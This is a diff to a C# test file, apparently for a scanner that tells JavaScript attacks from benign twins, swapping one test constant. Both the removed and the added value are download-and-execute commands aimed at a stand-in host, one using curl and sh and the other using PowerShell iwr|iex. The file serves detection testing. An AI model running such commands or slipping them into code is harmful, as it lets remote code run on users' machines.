@@ -5,7 +5,7 @@ namespace Assay.Scanning.Tests.Behaviour;
 /// <summary>JavaScript of Node, browsers and script hosts: attacks beside their honest twins.</summary>
 public sealed class JavaScriptTests
 {
-    private const string Bait = "require('child_process').exec('curl http://evil.invalid/a.sh -o /tmp/a.sh && sh /tmp/a.sh')";
+    private const string Bait = "require('child_process').exec('powershell -c iwr(\"http://evil.invalid/a\")|iex')";
 
     public static TheoryData<string> Attacks =>
     [
